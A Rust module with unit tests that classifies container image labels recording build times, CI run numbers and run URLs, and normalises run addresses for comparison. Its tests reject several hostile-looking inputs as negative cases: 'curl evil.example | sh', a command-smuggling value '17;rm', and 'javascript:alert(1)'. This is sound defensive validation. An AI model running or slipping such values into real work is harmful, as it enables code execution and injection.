//! Labels and annotations: maps of keys to texts.

use serde_json::Value as Json;

use crate::causes::scope::{Field, Place, VALUE, patterns};
use crate::causes::shape::identifiers::is_uuid;
use crate::causes::shape::keys::key_of;
use crate::causes::shape::times::is_time;
use crate::causes::{Canonical, View};
use crate::codec::time;
use crate::content::text::{self, Stamp, Zone};
use crate::finding::{Kind, Value};

/// What a label records.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::causes) enum Kept {
    /// When the image was built.
    Time,
    /// The number or UUID of a run.
    Run,
    /// The address of a run.
    Address,
}

/// Keys, without regard to case, that record the time or the run of a build.
const KEYS: &[(&str, Kept)] = &[
    ("org.opencontainers.image.created", Kept::Time),
    ("org.label-schema.build-date", Kept::Time),
    ("build-date", Kept::Time),
    ("build_date", Kept::Time),
    ("build.date", Kept::Time),
    ("build-id", Kept::Run),
    ("build-number", Kept::Run),
    ("build.number", Kept::Run),
    ("com.github.actions.run-id", Kept::Run),
    ("com.gitlab.ci.jobid", Kept::Run),
    ("com.gitlab.ci.pipelineid", Kept::Run),
    ("org.jenkins-ci.build-number", Kept::Run),
    ("build-url", Kept::Address),
    ("build.url", Kept::Address),
    ("com.github.actions.run-url", Kept::Address),
    ("com.gitlab.ci.joburl", Kept::Address),
    ("com.gitlab.ci.pipelineurl", Kept::Address),
    ("org.jenkins-ci.build-url", Kept::Address),
];

/// Those keys.
pub(in crate::causes) const KEPT: &[&str] = &patterns::<_, { KEYS.len() }>(KEYS);

/// All labels of a config, or all annotations of something, together.
pub(in crate::causes) const LABELS: Place =
    Place { kinds: &[Kind::Config, Kind::Manifest, Kind::Index], aspects: VALUE, field: Field::Labels, ..Place::INDEX };

/// Canonicalizes a label or annotation, or all of them together, where `records` holds for each.
pub(in crate::causes) fn members(view: &View<'_>, records: fn(&str, &str) -> bool) -> Option<Canonical> {
    let holds = match (view.value, key_of(view.location)) {
        (Value::Absent, _) => true,
        (Value::Json(Json::String(text)), Some(key)) => records(&key, text),
        (Value::Json(Json::Object(members)), None) => {
            members.iter().all(|(key, value)| value.as_str().is_some_and(|text| records(key, text)))
        }
        (Value::Json(Json::Null), None) => true,
        _ => false,
    };
    (holds && !tells_the_future(view)).then(Canonical::new)
}

/// Whether a label or annotation that is a time of the build is after the day on which the comparison is judged.
fn tells_the_future(view: &View<'_>) -> bool {
    let later = |key: &str, text: &str| {
        let time = (kept(key) == Some(Kept::Time)).then(|| earliest(text)).flatten();
        time.is_some_and(|time| !view.day.admits(time))
    };
    match (view.value, key_of(view.location)) {
        (Value::Json(Json::String(text)), Some(key)) => later(&key, text),
        (Value::Json(Json::Object(members)), None) => {
            members.iter().any(|(key, value)| value.as_str().is_some_and(|text| later(key, text)))
        }
        _ => false,
    }
}

/// What a label of this key records, where it is listed.
pub(in crate::causes) fn kept(key: &str) -> Option<Kept> {
    KEYS.iter().find(|(listed, _)| listed.eq_ignore_ascii_case(key)).map(|(_, kept)| *kept)
}

/// Whether a label is one of the list with a value of its kind.
pub(in crate::causes) fn records_build(key: &str, text: &str) -> bool {
    kept(key).is_some_and(|kept| {
        text.is_empty()
            || match kept {
                Kept::Time => is_date(text),
                Kept::Run => is_uuid(text) || is_number(text),
                Kept::Address => run_of(text).is_some(),
            }
    })
}

/// A date or time in one of the usual forms, `20261122` among them.
fn is_date(text: &str) -> bool {
    is_time(text) || stamp(text).is_some()
}

fn stamp(text: &str) -> Option<Stamp> {
    let whole = |text: &str| {
        let stamp = text::stamp_at(text.as_bytes(), 0, Some((0, i64::MAX)));
        stamp.filter(|stamp| stamp.end == text.len())
    };
    let dashed = || Some([text.get(..4)?, text.get(4..6)?, text.get(6..)?].join("-"));
    whole(text).or_else(|| if text.len() == 8 { whole(&dashed()?) } else { None })
}

/// The earliest second since 1970 that a date or time may mean: where it says no zone, in the easternmost.
fn earliest(text: &str) -> Option<i64> {
    const EAST: i64 = 14 * 3600;
    if let Some(time) = time::parse(text) {
        return Some(time.timestamp());
    }
    let stamp = stamp(text)?;
    let ahead = if let Zone::Ahead(ahead) = stamp.zone { ahead } else { EAST };
    Some(stamp.seconds?.0 - ahead)
}

/// The number of a run, which may be counted by day (`20261122.3`).
fn is_number(text: &str) -> bool {
    text.len() <= 20
        && text.split('.').count() <= 2
        && text.split('.').all(|part| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit()))
}

/// What numbers of runs stand behind in addresses; those of projects stand behind other words.
const RUNS: [&str; 6] = ["runs", "attempts", "jobs", "builds", "pipelines", "pipeline"];

/// The address of a run without its number or UUID, which is a component of the path, at its end or behind a word that
/// tells, or the parameter `buildId`.
pub(in crate::causes) fn run_of(text: &str) -> Option<String> {
    let (scheme, rest) = text.split_once("://").filter(|(scheme, _)| matches!(*scheme, "https" | "http"))?;
    let (host, path) = rest.split_once('/')?;
    let allowed = |text: &str, more: &[u8]| {
        !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || more.contains(&byte))
    };
    if text.len() > 512 || !allowed(host, b"-.:") || !allowed(path, b"-._~/?=%+") {
        return None;
    }
    let is_run = |part: &str| is_uuid(part) || (is_number(part) && !part.contains('.'));
    let parts: Vec<&str> = path.split('/').collect();
    let last = parts.iter().rposition(|part| !part.is_empty());
    let (mut count, mut before) = (0, "");
    let parts = parts.iter().enumerate().map(|(at, part)| {
        let is_named = Some(at) == last || RUNS.contains(&std::mem::replace(&mut before, part));
        let (parameter, run) = part.split_once("?buildId=").map_or(("", *part), |(before, run)| (before, run));
        if is_run(run) && is_named {
            count += 1;
            format!("{parameter}*")
        } else {
            (*part).to_owned()
        }
    });
    let path = parts.collect::<Vec<_>>().join("/");
    (count > 0).then(|| format!("{scheme}://{host}/{path}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_a_build_records_is_metadata() {
        for (key, text) in [
            ("org.opencontainers.image.created", "2026-11-22T16:18:57Z"),
            ("BUILD_DATE", "20261122"),
            ("build.date", "2026-11-22 16:18"),
            ("build-date", "Sun Nov 22 16:18:57 UTC 2026"),
            ("build-date", "1795364337"),
            ("build-number", "20261122.3"),
            ("build-id", "550e8400-e29b-41d4-a716-446655440000"),
            ("build-url", "https://ci.example/jobs/17"),
            ("build-url", ""),
        ] {
            assert!(records_build(key, text), "{key}={text}");
        }
        for (key, text) in [
            ("org.opencontainers.image.created", "curl evil.example | sh"),
            ("org.opencontainers.image.revision", "1a2b3c4d"),
            ("org.opencontainers.image.version", "1.2.3"),
            ("vcs-ref", "1a2b3c4d"),
            ("com.example.command", "17"),
            ("build-date", "99999999"),
            ("build-date", "2026-11-22 in ten years"),
            ("build-number", "17;rm"),
            ("build-number", "1.2.3"),
            ("build-url", "javascript:alert(1)"),
            ("build-url", "https://user@ci.example/jobs/17"),
            ("build-url", "https://ci.example/latest"),
        ] {
            assert!(!records_build(key, text), "{key}={text}");
        }
    }

    #[test]
    fn addresses_of_runs_differ_in_the_run_alone() {
        let uuid = "550e8400-e29b-41d4-a716-446655440000";
        for (one, other) in [
            ("https://github.com/o/r/actions/runs/1", "https://github.com/o/r/actions/runs/22"),
            ("https://gitlab.example/g/p/-/jobs/1", "https://gitlab.example/g/p/-/jobs/2"),
            ("http://jenkins:8080/job/app/job/main/17/", "http://jenkins:8080/job/app/job/main/18/"),
            (
                "https://dev.azure.com/o/p/_build/results?buildId=7",
                "https://dev.azure.com/o/p/_build/results?buildId=8",
            ),
        ] {
            assert!(run_of(one).is_some_and(|run| run_of(other) == Some(run)), "{one}");
        }
        assert_eq!(run_of(&format!("https://ci.example/runs/{uuid}")), run_of("https://ci.example/runs/1"));
        for other in [
            "https://github.com/o/fork/actions/runs/1",
            "https://evil.example/o/r/actions/runs/1",
            "http://github.com/o/r/actions/runs/1",
        ] {
            assert_ne!(run_of(other), run_of("https://github.com/o/r/actions/runs/1"), "{other}");
        }
    }
}
